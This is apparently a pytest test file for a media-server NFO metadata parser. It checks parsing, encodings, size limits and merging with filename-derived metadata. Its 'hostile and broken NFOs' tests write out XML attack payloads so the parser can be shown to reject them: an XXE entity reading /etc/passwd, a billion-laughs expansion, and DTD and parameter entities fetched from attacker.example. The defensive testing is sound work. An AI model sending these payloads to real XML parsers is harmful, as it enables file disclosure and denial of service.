"""Behaviour of the NFO sidecar parser and of overlaying NFOs on path-derived metadata."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exstreamtv.domain.media import (
    Artwork,
    MediaKind,
    MediaMetadata,
    MetadataSource,
    MetadataStatus,
)
from exstreamtv.errors import MetadataParseError
from exstreamtv.formats.nfo import MAX_NFO_BYTES, NfoMetadata, apply_nfo, parse_nfo

MOVIE_NFO = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes" ?>
<movie>
    <title>The Shawshank Redemption</title>
    <originaltitle>The Shawshank Redemption</originaltitle>
    <year>1994</year>
    <outline>Short outline.</outline>
    <plot>Two imprisoned men bond over a number of years.</plot>
    <mpaa>Rated R</mpaa>
    <uniqueid type="imdb" default="true">tt0111161</uniqueid>
    <uniqueid type="tmdb">278</uniqueid>
    <genre>Drama</genre>
    <genre>Crime</genre>
    <thumb aspect="banner">https://img.example/banner.jpg</thumb>
    <thumb aspect="poster" preview="https://img.example/p-small.jpg">https://img.example/poster.jpg</thumb>
    <fanart>
        <thumb preview="https://img.example/f-small.jpg">https://img.example/fanart.jpg</thumb>
    </fanart>
    <actor><name>Tim Robbins</name><role>Andy</role></actor>
</movie>
"""

TVSHOW_NFO = b"""<?xml version="1.0" encoding="UTF-8"?>
<tvshow>
    <title>Breaking Bad</title>
    <showtitle>Breaking Bad</showtitle>
    <season>-1</season>
    <episode>-1</episode>
    <premiered>2008-01-20</premiered>
    <plot>A chemistry teacher turns to crime.</plot>
    <mpaa>TV-MA</mpaa>
    <genre>Drama / Crime</genre>
    <genre>Thriller</genre>
    <uniqueid type="tvdb" default="true">81189</uniqueid>
    <thumb aspect="poster">posters/breaking-bad.jpg</thumb>
    <fanart url="https://artworks.example/">
        <thumb>fanart/original/81189-1.jpg</thumb>
    </fanart>
</tvshow>
"""

EPISODE_NFO = b"""<?xml version="1.0" encoding="UTF-8"?>
<episodedetails>
    <title>Pilot</title>
    <showtitle>Breaking Bad</showtitle>
    <season>1</season>
    <episode>1</episode>
    <aired>2008-01-20</aired>
    <outline>Walter White is diagnosed with cancer.</outline>
    <uniqueid type="tvdb">349232</uniqueid>
    <thumb>https://img.example/s01e01.jpg</thumb>
</episodedetails>
"""


_PATH_EPISODE = MediaMetadata(
    kind=MediaKind.EPISODE,
    title="Breaking Bad",
    show="Breaking Bad",
    season=1,
    episode=1,
    source=MetadataSource.FOLDER,
)


def _item(**changes: Any) -> MediaMetadata:
    """Path-derived metadata as the filename parser would produce it."""
    return replace(_PATH_EPISODE, **changes)


def _reason(data: bytes) -> str:
    with pytest.raises(MetadataParseError) as caught:
        parse_nfo(data)
    return caught.value.message


# --- real NFOs -------------------------------------------------------------------------


def test_movie_nfo_gives_title_year_plot_rating_ids_and_artwork() -> None:
    nfo = parse_nfo(MOVIE_NFO)

    assert nfo.root == "movie"
    assert nfo.kind is MediaKind.MOVIE
    assert nfo.title == "The Shawshank Redemption"
    assert nfo.year == 1994
    assert nfo.plot == "Two imprisoned men bond over a number of years."
    assert nfo.genres == ("Drama", "Crime")
    assert nfo.content_rating == "R"
    assert nfo.external_ids == (("imdb", "tt0111161"), ("tmdb", "278"))
    assert nfo.thumb == "https://img.example/poster.jpg"
    assert nfo.fanart == "https://img.example/fanart.jpg"
    assert nfo.season is None
    assert nfo.episode is None


def test_tvshow_nfo_splits_slash_genres_and_reads_kodi_minus_one_as_unknown() -> None:
    nfo = parse_nfo(TVSHOW_NFO)

    assert nfo.root == "tvshow"
    assert nfo.kind is None
    assert nfo.title == "Breaking Bad"
    assert nfo.genres == ("Drama", "Crime", "Thriller")
    assert nfo.season is None
    assert nfo.episode is None
    assert nfo.year == 2008
    assert nfo.content_rating == "TV-MA"
    assert nfo.external_ids == (("tvdb", "81189"),)
    assert nfo.thumb == "posters/breaking-bad.jpg"
    assert nfo.fanart == "https://artworks.example/fanart/original/81189-1.jpg"


def test_episode_nfo_gives_numbers_year_from_aired_and_outline_as_plot() -> None:
    nfo = parse_nfo(EPISODE_NFO)

    assert nfo.kind is MediaKind.EPISODE
    assert (nfo.title, nfo.show_title, nfo.season, nfo.episode) == ("Pilot", "Breaking Bad", 1, 1)
    assert nfo.year == 2008
    assert nfo.plot == "Walter White is diagnosed with cancer."
    assert nfo.thumb == "https://img.example/s01e01.jpg"
    assert nfo.genres == ()
    assert nfo.content_rating is None


def test_musicvideo_root_is_a_music_video() -> None:
    nfo = parse_nfo(b"<musicvideo><title>Song</title><artist>Band</artist></musicvideo>")

    assert nfo.kind is MediaKind.MUSIC_VIDEO
    assert nfo.title == "Song"


def test_year_falls_back_to_premiered_when_year_is_not_a_year() -> None:
    nfo = parse_nfo(b"<movie><year>unknown</year><premiered>1999-03-31</premiered></movie>")

    assert nfo.year == 1999


def test_blank_elements_count_as_absent() -> None:
    nfo = parse_nfo(b"<movie><title>  </title><season></season><plot/><mpaa>Rated </mpaa></movie>")

    assert nfo == NfoMetadata(root="movie", kind=MediaKind.MOVIE)


def test_legacy_id_tags_fill_external_ids_and_tt_id_is_imdb() -> None:
    nfo = parse_nfo(
        b"<movie><id>tt0133093</id><tmdbid>603</tmdbid><tvdbid>1</tvdbid><title>M</title></movie>"
    )

    assert nfo.external_ids == (("imdb", "tt0133093"), ("tmdb", "603"), ("tvdb", "1"))


def test_uniqueid_wins_over_legacy_id_tags_and_unknown_providers_are_dropped() -> None:
    nfo = parse_nfo(
        b'<movie><imdbid>tt9999999</imdbid><uniqueid type="IMDB">tt0133093</uniqueid>'
        b'<uniqueid type="trakt">481</uniqueid><id>12345</id></movie>'
    )

    assert nfo.external_ids == (("imdb", "tt0133093"),)


def test_first_thumb_is_used_when_none_is_a_poster() -> None:
    nfo = parse_nfo(b"<movie><thumb/><thumb>a.jpg</thumb><thumb>b.jpg</thumb></movie>")

    assert nfo.thumb == "a.jpg"


def test_trailing_url_line_after_the_root_is_ignored() -> None:
    data = b"<movie><title>The Matrix</title></movie>\nhttps://www.imdb.com/title/tt0133093/\n"

    nfo = parse_nfo(data)

    assert nfo.title == "The Matrix"


def test_bare_imdb_url_nfo_gives_only_the_imdb_id() -> None:
    nfo = parse_nfo(b"https://www.imdb.com/title/tt0111161/\r\n")

    assert nfo == NfoMetadata(external_ids=(("imdb", "tt0111161"),))


def test_bare_tmdb_url_nfo_gives_the_tmdb_id() -> None:
    nfo = parse_nfo(b"https://www.themoviedb.org/movie/603-the-matrix")

    assert nfo.external_ids == (("tmdb", "603"),)


def test_utf8_bom_is_stripped() -> None:
    nfo = parse_nfo(b"\xef\xbb\xbf" + "<movie><title>Amélie</title></movie>".encode())

    assert nfo.title == "Amélie"


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_with_bom_are_decoded(codec: str) -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?><movie><title>東京物語</title></movie>'
    data = text.encode(codec)
    if codec == "utf-16-be":
        data = b"\xfe\xff" + data  # the -be codec writes no BOM of its own

    assert parse_nfo(data).title == "東京物語"


def test_declared_latin1_encoding_is_honoured() -> None:
    text = '<?xml version="1.0" encoding="ISO-8859-1"?><movie><title>Café</title></movie>'

    assert parse_nfo(text.encode("latin-1")).title == "Café"


def test_non_numeric_season_is_refused_with_reason() -> None:
    reason = _reason(b"<episodedetails><season>one</season></episodedetails>")

    assert reason == "NFO <season> is not a number: 'one'"


def test_non_numeric_episode_is_refused_with_reason() -> None:
    assert "<episode> is not a number" in _reason(
        b"<episodedetails><episode>2a</episode></episodedetails>"
    )


# --- hostile and broken NFOs -----------------------------------------------------------


def test_xxe_system_entity_for_etc_passwd_is_refused_with_reason() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE movie [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<movie><title>&xxe;</title></movie>"""

    assert _reason(data) == "NFO declares a DTD or entities (refused)"


def test_billion_laughs_nfo_is_refused_with_reason() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<movie><title>&lol3;</title></movie>"""

    assert _reason(data) == "NFO declares a DTD or entities (refused)"


def test_external_dtd_is_refused_with_reason() -> None:
    data = b'<!DOCTYPE movie SYSTEM "http://attacker.example/evil.dtd"><movie/>'

    assert _reason(data) == "NFO declares a DTD or entities (refused)"


def test_parameter_entity_is_refused_with_reason() -> None:
    data = b'<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><movie/>'

    assert _reason(data) == "NFO declares a DTD or entities (refused)"


def test_broken_xml_is_refused_with_parser_detail() -> None:
    reason = _reason(b"<movie><title>Unclosed</movie>")

    assert reason.startswith("NFO is not well-formed XML: mismatched tag")


def test_nfo_over_one_mebibyte_is_refused_with_its_size() -> None:
    data = b"<movie><plot>" + b"x" * (2 * MAX_NFO_BYTES) + b"</plot></movie>"

    assert _reason(data) == f"NFO is larger than 1 MiB ({len(data)} bytes)"


def test_nfo_of_exactly_one_mebibyte_is_accepted() -> None:
    head, tail = b"<movie><plot>", b"</plot></movie>"
    data = head + b"x" * (MAX_NFO_BYTES - len(head) - len(tail)) + tail

    assert parse_nfo(data).plot == "x" * (MAX_NFO_BYTES - len(head) - len(tail))


@pytest.mark.parametrize("data", [b"", b"   \n\t ", b"\xef\xbb\xbf"])
def test_empty_nfo_is_refused_with_reason(data: bytes) -> None:
    assert _reason(data) == "NFO is empty"


def test_binary_garbage_is_refused_with_reason() -> None:
    reason = _reason(bytes(range(256)) * 4)

    assert reason.startswith("NFO is not valid utf-8 text")


def test_text_without_xml_or_an_id_is_refused_with_reason() -> None:
    reason = _reason(b"Ripped by SomeGroup, enjoy!")

    assert reason == "NFO is neither XML nor a URL naming an IMDb or TMDB title"


def test_wrong_root_is_refused_with_reason() -> None:
    reason = _reason(b"<html><body>not an nfo</body></html>")

    assert reason == "NFO root <html> is not movie/tvshow/episodedetails/musicvideo"


def test_unknown_declared_encoding_is_refused_with_reason() -> None:
    reason = _reason(b'<?xml version="1.0" encoding="klingon"?><movie/>')

    assert reason == "NFO declares an unknown encoding 'klingon'"


def test_non_text_codec_declared_as_encoding_is_refused() -> None:
    assert "unknown encoding" in _reason(b'<?xml version="1.0" encoding="base64"?><movie/>')


@settings(database=None, deadline=None, max_examples=300)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_either_parse_or_raise_metadata_parse_error(data: bytes) -> None:
    outcome: NfoMetadata | str
    try:
        outcome = parse_nfo(data)
    except MetadataParseError as err:
        outcome = err.message  # any other exception type fails the test

    assert outcome


_XML_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cn")),
    max_size=60,
)


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@settings(database=None, deadline=None)
@given(title=_XML_TEXT, root=st.sampled_from(["movie", "tvshow", "episodedetails"]))
def test_any_title_text_round_trips_stripped(title: str, root: str) -> None:
    data = f"<{root}><title>{_escape(title)}</title></{root}>".encode()

    assert parse_nfo(data).title == (title.strip() or None)


# --- apply_nfo -------------------------------------------------------------------------


def test_nfo_values_win_over_path_values() -> None:
    base = _item(title="Breaking Bad", season=9, episode=9, year=2001)

    result = apply_nfo(parse_nfo(EPISODE_NFO), base)

    assert result.title == "Pilot"
    assert (result.season, result.episode, result.year) == (1, 1, 2008)
    assert result.source is MetadataSource.NFO
    assert result.status is MetadataStatus.OK
    assert result.external_ids == (("tvdb", "349232"),)
    assert result.artwork.thumb == "https://img.example/s01e01.jpg"


def test_show_nfo_supplies_what_the_episode_nfo_lacks() -> None:
    episode = parse_nfo(EPISODE_NFO)
    show = parse_nfo(TVSHOW_NFO)

    result = apply_nfo(episode, _item(show="breaking.bad"), show_nfo=show)

    assert result.show == "Breaking Bad"
    assert result.genres == ("Drama", "Crime", "Thriller")
    assert result.content_rating == "TV-MA"
    assert result.artwork == Artwork(
        poster="posters/breaking-bad.jpg",
        thumb="https://img.example/s01e01.jpg",
        fanart="https://artworks.example/fanart/original/81189-1.jpg",
    )
    assert result.plot == "Walter White is diagnosed with cancer."
    # The show's tvdb id is not the episode's.
    assert result.external_ids == (("tvdb", "349232"),)


def test_episode_nfo_genres_win_over_show_nfo_genres() -> None:
    episode = parse_nfo(b"<episodedetails><genre>Comedy</genre></episodedetails>")

    result = apply_nfo(episode, _item(), show_nfo=parse_nfo(TVSHOW_NFO))

    assert result.genres == ("Comedy",)


def test_tvshow_nfo_given_as_the_item_nfo_acts_as_show_nfo() -> None:
    result = apply_nfo(parse_nfo(TVSHOW_NFO), _item(title="S01E01", show=None))

    assert result.show == "Breaking Bad"
    assert result.title == "S01E01"
    assert result.genres == ("Drama", "Crime", "Thriller")


def test_untitled_placeholder_episode_is_named_after_the_show_from_the_show_nfo() -> None:
    base = _item(title="s01e01", show=None, status=MetadataStatus.PLACEHOLDER)

    result = apply_nfo(NfoMetadata(), base, show_nfo=parse_nfo(TVSHOW_NFO))

    assert result.title == "Breaking Bad"
    assert result.status is MetadataStatus.OK


def test_url_only_nfo_keeps_a_placeholder_title_a_placeholder() -> None:
    base = MediaMetadata(kind=MediaKind.OTHER, title="clip", status=MetadataStatus.PLACEHOLDER)

    result = apply_nfo(parse_nfo(b"https://www.imdb.com/title/tt0111161/"), base)

    assert result.status is MetadataStatus.PLACEHOLDER
    assert result.title == "clip"
    assert result.external_ids == (("imdb", "tt0111161"),)
    assert result.source is MetadataSource.NFO


def test_movie_nfo_makes_a_placeholder_a_titled_movie_with_poster() -> None:
    base = MediaMetadata(
        kind=MediaKind.OTHER,
        title="shawshank",
        status=MetadataStatus.PLACEHOLDER,
        external_ids=(("imdb", "tt0000001"), ("local", "7")),
    )

    result = apply_nfo(parse_nfo(MOVIE_NFO), base)

    assert result.kind is MediaKind.MOVIE
    assert result.title == "The Shawshank Redemption"
    assert result.status is MetadataStatus.OK
    assert result.show is None
    assert result.artwork.poster == "https://img.example/poster.jpg"
    assert result.external_ids == (("imdb", "tt0111161"), ("local", "7"), ("tmdb", "278"))


def test_show_nfo_title_is_not_a_movie_show() -> None:
    base = MediaMetadata(kind=MediaKind.MOVIE, title="Heat", year=1995)

    result = apply_nfo(NfoMetadata(), base, show_nfo=parse_nfo(TVSHOW_NFO))

    assert result.show is None
    assert result.genres == ()
    assert result.year == 1995
